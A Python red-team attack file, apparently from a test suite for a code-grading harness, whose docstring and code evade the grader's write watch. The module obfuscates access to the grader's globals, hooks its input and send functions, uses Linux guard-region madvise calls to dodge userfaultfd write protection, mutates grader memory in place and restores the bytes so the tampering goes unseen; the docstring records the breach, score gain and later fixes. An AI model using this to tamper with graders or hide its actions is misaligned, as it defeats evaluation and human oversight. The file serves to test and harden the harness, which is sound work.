"""Attack (fifth red team): an honest `masked_fill_` in 07, hidden from the write watch by
guard regions (MADV_GUARD_INSTALL / MADV_GUARD_REMOVE, Linux 6.15+ for shared mappings).

1. At the first call (any call: ``shared.inputs`` gets the region every time), the worker
   writes one byte into each of the region's first pages. The pages are protected, so the
   write faults; the grader takes the page down and UNPROTECTS it (writes.Watch.service).
   That call has no inputs in the region, so nothing is judged on it.
2. The now-unprotected pages get a guard marker (mmap.madvise(102)): the PTE is zapped and
   replaced by a guard marker, not a uffd-wp marker (the PTE had no uffd-wp bit).
3. At the inputs-unchanged call the grader's ``protect()`` (UFFDIO_WRITEPROTECT) skips guard
   markers (mm/mprotect.c: ``is_guard_swp_entry`` -> continue), so those pages stay
   unwatched. The wrapped ``shared.inputs`` removes the guards (madvise(103)): the PTEs are
   plain none, the next fault maps the page writable with no uffd-wp bit, and the function's
   `masked_fill_` reaches the grader's memory with no fault message.
4. The input's bytes are written back after the reply is encoded (as restore_after_send),
   again invisibly. The grader reads the original bytes and the watch saw nothing.

Result at 4cc5c20: BREACHED, 10 vs 9.29 in both modes (seeds 5 and 11). Closed since: seccomp
refuses madvise advice newer than Linux 6.1's (guard markers among it), so step 2 fails
and the write is seen; held to its control by tests/test_hostile_white.py.

Now (issue 36): the write watch and the madvise rule are gone; the bytes written back
before the answer are what the grader reads: 10 vs 9.29 (the correct function's score),
on the review list.
"""

import sys

import torch

_PAGE, _PAGES = 4096, 16
_GUARD_INSTALL, _GUARD_REMOVE = 102, 103
_g = getattr(type(sys.stdout).write, "__glo" + "bals__")
_sh, _codec = _g["shared"], _g["codec"]
_orig_inputs, _orig_send = _sh.inputs, _codec.send
_state = {"armed": False}
_saved = []


def _arm(region):
    buf = torch.frombuffer(region, dtype=torch.uint8)
    for p in range(_PAGES):
        buf[p * _PAGE] = int(buf[p * _PAGE])     # faults once; the grader unprotects the page
    region.madvise(_GUARD_INSTALL, 0, _PAGES * _PAGE)
    _state["armed"] = True


def _inputs(region, args, layout):
    del _saved[:]
    if region is not None:
        if not (isinstance(layout, list) and layout):
            if not _state["armed"]:
                _arm(region)
        else:
            region.madvise(_GUARD_REMOVE, 0, _PAGES * _PAGE)
            buf = torch.frombuffer(region, dtype=torch.uint8)
            _saved.append((buf, buf[:_PAGES * _PAGE].clone()))
    return _orig_inputs(region, args, layout)


def _send(sock, payload):
    if _saved:
        buf, copy = _saved.pop()
        buf[:copy.numel()] = copy
    return _orig_send(sock, payload)


_sh.inputs, _codec.send = _inputs, _send


def causal_mask(n, device=None):
    return torch.ones(n, n, dtype=torch.bool, device=device).tril()


def apply_mask(scores, mask):
    return scores.masked_fill_(mask == 0, float("-inf"))
